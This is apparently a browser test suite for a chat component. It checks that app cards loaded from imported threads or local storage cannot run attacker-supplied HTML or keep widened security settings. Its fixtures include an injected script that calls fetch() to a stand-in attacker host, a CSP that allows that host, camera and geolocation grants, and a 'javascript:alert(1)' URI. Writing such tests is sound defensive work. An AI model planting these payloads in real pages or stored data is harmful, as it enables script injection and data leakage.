/**
 * What a stored or imported app card may run: a file's HTML
 * never runs — the card reads its app again from this page's own server; a card this page saved
 * runs its saved HTML, but under a CSP and permissions computed now, never the stored ones; the
 * missing-check mark refuses resource reads, messages, model context and full screen too; a
 * stored app of the wrong shape is left out.
 */
import { expect, fixture, html } from '@open-wc/testing';
import type { AgentChat } from '../../../src/agent-chat/agent-chat.js';
import type { NodeRecord, ThreadExport } from '../../../src/storage/records.js';
import { openChatDb } from '../../../src/storage/db.js';
import { sendAndWait, settle, textOf, until, useFreshKeys } from '../helpers.js';
import { appFrame, appIframe, appMessageProposal, clickInsideApp, command, mcpCallEndpoint, useProbeReports, waitForReport, type Report } from '../mcp-helpers.js';

const freshKey = useFreshKeys('storage-app-trust');

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const ENDPOINT = mcpCallEndpoint('show_probe', { value: 'kept' });
const ATTACKER = 'http://attacker.invalid:9';

async function chat(key: string, { server = true, check }: { server?: boolean; check?: () => boolean } = {}): Promise<AgentChat> {
  const el = await fixture<AgentChat>(html`<agent-chat style="height: 600px" endpoint=${ENDPOINT} storage-key=${key}></agent-chat>`);
  if (server) {
    const child = document.createElement('agent-chat-mcp-server');
    child.setAttribute('name', 'probe');
    child.setAttribute('url', '/mcp/probe');
    if (check) child.onAppCall = check;
    el.append(child);
  }
  await el.updateComplete;
  await (el as unknown as { wiring: { store: { ready(): Promise<void> } } }).wiring.store.ready();
  await settle(el);
  return el;
}

type App = { source: unknown; resourceUri: string; resource?: { html: string; meta?: Record<string, unknown> }; fromFile?: boolean; hadOwnCheck?: boolean };
type Part = { kind: string; app?: App };

function appOf(turns: readonly unknown[]): App | undefined {
  for (const turn of turns as { parts?: Part[] }[]) {
    const part = turn.parts?.find((candidate) => candidate.kind === 'tool-call' && candidate.app);
    if (part) return part.app;
  }
  return undefined;
}

async function shownApp(el: AgentChat, reports: Report[]): Promise<void> {
  await until(() => !!appOf(el.getTurns())?.resource, 'the resource is in the card');
  await waitForReport(reports, (r) => !!r.security, 'the app is ready');
  await (el as unknown as { wiring: { store: { flush(): Promise<void> } } }).wiring.store.flush();
}

/** Rewrites the stored app card of database `key` (the page's own IndexedDB, as a hand would). */
async function editStoredApp(key: string, edit: (app: App) => void): Promise<void> {
  const db = await openChatDb(key);
  for (const node of (await db.getAll('nodes')) as NodeRecord[]) {
    const parts = (node.turn as { parts?: Part[] }).parts;
    const part = parts?.find((candidate) => candidate.app);
    if (!part) continue;
    edit(part.app!);
    await db.put('nodes', node);
  }
  db.close();
}

describe('storage: an imported app card never runs the file’s code', function () {
  this.timeout(40_000);
  const reports = useProbeReports();

  async function hostileFile(): Promise<string> {
    const first = await chat(freshKey());
    await sendAndWait(first, 'show the probe');
    await shownApp(first, reports);
    const file = (await first.exportThread()) as ThreadExport;
    first.remove();
    for (const node of file.nodes) {
      const app = ((node.turn as { parts?: Part[] }).parts ?? []).find((part) => part.app)?.app;
      if (!app) continue;
      app.resource = {
        html: `<!doctype html><title>from the file</title><script>parent.postMessage({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data: { fromFile: true } } }, '*'); fetch('${ATTACKER}/x').catch(() => {});</script>`,
        meta: { csp: { connectDomains: [ATTACKER] }, permissions: { geolocation: {}, camera: {} } },
      };
      app.hadOwnCheck = false;
    }
    reports.length = 0;
    return JSON.stringify(file);
  }

  it('reads the app again from this page’s server for that source, under the server’s CSP', async () => {
    const file = await hostileFile();
    const el = await chat(freshKey());
    el.setAttribute('app-permissions', 'camera');
    await el.importThread(file);
    await until(() => !!appIframe(el)?.srcdoc, 'the app');
    await waitForReport(reports, (r) => !!r.security, 'the server’s own app ran');
    const iframe = appIframe(el)!;
    expect(iframe.srcdoc).to.contain('<title>probe</title>');
    expect(iframe.srcdoc).to.not.contain('from the file');
    expect(iframe.srcdoc).to.not.contain('attacker.invalid');
    expect(iframe.allow).to.equal('');
    await sleep(300);
    expect(reports.some((r) => r.fromFile)).to.equal(false);
    expect(appOf(el.getTurns())).to.deep.include({ fromFile: true, hadOwnCheck: true });
  });

  it('shows a still summary when this page has no server for that source', async () => {
    const file = await hostileFile();
    const el = await chat(freshKey(), { server: false });
    await el.importThread(file);
    await until(() => !!appFrame(el)?.shadowRoot?.querySelector('.unavailable'), 'the notice');
    expect(textOf(appFrame(el)!.shadowRoot!.querySelector('.unavailable') ?? undefined)).to.contain('came from an imported file');
    expect(appIframe(el)).to.equal(undefined);
    expect(reports.some((r) => r.fromFile)).to.equal(false);
  });
});

describe('storage: a card this page saved', function () {
  this.timeout(60_000);
  const reports = useProbeReports();

  it('runs its saved HTML under the CSP and permissions computed now, not the stored ones', async () => {
    const key = freshKey();
    const first = await chat(key);
    await sendAndWait(first, 'show the probe');
    await shownApp(first, reports);
    first.remove();
    await editStoredApp(key, (app) => {
      app.resource!.html = app.resource!.html.replace('<title>probe</title>', '<title>probe (saved)</title>');
      app.resource!.meta = { csp: { connectDomains: [ATTACKER], resourceDomains: [ATTACKER] }, permissions: { camera: {}, geolocation: {} } };
    });
    reports.length = 0;
    const second = await chat(key);
    second.setAttribute('app-permissions', 'geolocation');
    await until(() => !!appIframe(second)?.srcdoc, 'the restored app');
    const iframe = appIframe(second)!;
    expect(iframe.srcdoc, 'the saved HTML runs').to.contain('<title>probe (saved)</title>');
    expect(iframe.srcdoc, 'the stored CSP does not').to.not.contain('attacker.invalid');
    expect(iframe.srcdoc).to.contain("connect-src 'none'");
    expect(iframe.allow, 'nor the stored permissions').to.equal('');
  });

  it('under the missing-check mark, with no check now, may not read, message, tell the model or take full screen', async () => {
    const key = freshKey();
    const first = await chat(key, { check: () => true });
    await sendAndWait(first, 'show the probe');
    await shownApp(first, reports);
    await until(() => appOf(first.getTurns())?.hadOwnCheck === true, 'the mark');
    await (first as unknown as { wiring: { store: { flush(): Promise<void> } } }).wiring.store.flush();
    first.remove();
    reports.length = 0;

    const el = await chat(key);
    await until(() => !!appIframe(el), 'the restored app');
    await waitForReport(reports, (r) => !!r.security, 'the app is ready');
    command(el, { probe: 'read', uri: 'ui://probe/app.html' });
    const { readResult } = await waitForReport(reports, (r) => 'readResult' in r, 'the read answer');
    expect(readResult.error?.message).to.contain('had its own check');
    command(el, { probe: 'message', text: 'as the person' });
    expect((await waitForReport(reports, (r) => 'messageResult' in r, 'the message answer')).messageResult.isError).to.equal(true);
    expect(appMessageProposal(el)).to.equal(undefined);
    command(el, { probe: 'context', value: { x: 1 } });
    expect((await waitForReport(reports, (r) => 'contextResult' in r, 'the context answer')).contextError?.message).to.contain('had its own check');
    await clickInsideApp(el);
    command(el, { probe: 'mode', mode: 'fullscreen' });
    expect((await waitForReport(reports, (r) => 'modeResult' in r, 'the mode answer')).modeResult.mode).to.equal('inline');
  });

  it('with an app of the wrong shape opens without it, the rest of the thread intact', async () => {
    const key = freshKey();
    const first = await chat(key);
    await sendAndWait(first, 'show the probe');
    await shownApp(first, reports);
    const count = first.getTurns().length;
    first.remove();
    await editStoredApp(key, (app) => {
      app.source = { toString: 'not a name' };
      app.resourceUri = 'javascript:alert(1)';
    });
    const second = await chat(key);
    await until(() => second.getTurns().length === count, 'the thread is back');
    expect(appOf(second.getTurns()), 'the app is left out').to.equal(undefined);
    const call = (second.getTurns()[1] as { parts: { kind: string; name?: string }[] }).parts.find((part) => part.kind === 'tool-call');
    expect(call?.name, 'the call stays').to.equal('show_probe');
    expect(appFrame(second)).to.equal(undefined);
  });
});
